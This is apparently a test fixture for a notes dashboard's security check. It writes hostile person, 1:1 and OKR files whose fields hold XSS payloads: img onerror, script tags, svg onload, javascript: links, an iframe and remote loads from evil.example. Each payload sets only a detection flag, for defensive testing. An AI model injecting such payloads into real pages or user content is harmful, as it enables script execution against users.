// Hostile note text for the dashboard's security check in the real browser.
// Every payload, if it ever ran, would set a global the test then reads
// (window.__pwned in whichever frame it ran, or its parent); every remote URL
// points at a host that does not exist, so a load would show up as a request.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export const PWNED = '__pwned';

/** The person's name: an image whose error handler writes to the parent frame. */
export const NAME = `<img src=x onerror="window.parent.${PWNED}=1">`;
/** The person's role starts with a script tag, then runs on for 10,000 characters. */
export const ROLE_SCRIPT = `<script>window.parent.${PWNED}=2</script>`;
export const LONG = 10_000;
const filler = (seed: string, n: number) => (seed + ' ').repeat(Math.ceil(n / (seed.length + 1))).slice(0, n);
export const ROLE = (ROLE_SCRIPT + filler('Staff-engineer-in-waiting', LONG)).slice(0, LONG);
/** An objective title: an SVG with an onload, and a javascript: link in Markdown and HTML. */
export const OBJECTIVE = `<svg onload="window.parent.${PWNED}=3"></svg> [x](javascript:window.parent.${PWNED}=4) <a href="javascript:window.parent.${PWNED}=5">go</a>`;
/** A key result title of exactly 10,000 characters, starting with a remote image. */
export const KR_LONG = (`<img src="https://evil.example/kr.png">` + filler('Reduce-the-mean-time-to-restore-for-tier-one-services', LONG)).slice(0, LONG);
/** A key result title that is a bare script element. */
export const KR_SCRIPT = `<script src="https://evil.example/x.js"></script><script>window.parent.${PWNED}=6</script>`;
/** An action item with a script title, a javascript: link and a remote image (the trees show item text). */
export const ITEM_SCRIPT = `<script>window.parent.${PWNED}=7</script> rotate the keys`;
export const ITEM_LINK = `Read [x](javascript:alert(1)) and ![p](https://evil.example/p.png)`;
export const ITEM_LONG = filler('Ship-the-thing', LONG);
/** The OKR set the hostile objective lives in (newest period, so the dashboard shows it by default). */
export const SET_PERIOD = '2027-Q1';

const yamlQuote = (s: string) => `'${s.replace(/'/g, "''")}'`;

export const FILES: Record<string, string> = {
  'people/mallory.md': `---
type: person
name: ${yamlQuote(NAME)}
role: ${yamlQuote(ROLE)}
cadence: weekly
since: 2026-10-01
development:
  - ${yamlQuote(`<iframe src="https://evil.example/"></iframe>`)}
  - Reading other people's notes
---
A hostile person file for the e2e security check.
`,
  '1on1s/mallory/2026-11-20.md': `---
type: 1on1
report: mallory
date: 2026-11-20
happiness: 2
performance:
  manager: 4
  report: 1
---
## Happiness retrospective
- :-( <img src=x onerror="window.parent.${PWNED}=8">

## Action items
- [ ] ${ITEM_SCRIPT} @mallory due:2026-11-27
- [ ] ${ITEM_LINK} @me due:2026-11-28
- [ ] ${ITEM_LONG} @mallory due:2026-12-10
`,
  'okrs/2027-Q1.okr.yaml': `type: okr
period: ${SET_PERIOD}
owner: me
objectives:
  - id: O1
    title: ${yamlQuote(OBJECTIVE)}
    owner: mallory
    kind: committed
    key_results:
      - id: KR1
        title: ${yamlQuote(KR_LONG)}
        owner: mallory
        due: 2027-03-31
        start: 0
        target: 10
        current: 3
        confidence: 0.5
        status: at-risk
      - id: KR2
        title: ${yamlQuote(KR_SCRIPT)}
        owner: mallory
        due: 2027-03-31
        start: 0
        target: 10
        current: 9
        confidence: 0.9
        status: on-track
`,
};

/**
 * Makes the hostile 1:1's folder before the server starts. A note written
 * into a folder created the same moment can be missed by the file watcher
 * (the new folder's watch is set up after the file appeared), and this test
 * is about rendering, not about that race.
 */
export function prepareFolders(workspace: string): void {
  mkdirSync(join(workspace, '1on1s', 'mallory'), { recursive: true });
}

export function writeHostile(workspace: string): void {
  for (const [rel, text] of Object.entries(FILES)) {
    const file = join(workspace, rel);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
}

/**
 * Deletes the hostile files one by one and leaves the (empty) 1on1s/mallory
 * folder: a deleted folder reaches the extension as no event at all (its
 * watcher's glob matches files only), so the notes in it would stay indexed.
 */
export function removeHostile(workspace: string): void {
  for (const rel of Object.keys(FILES)) rmSync(join(workspace, rel), { force: true });
}
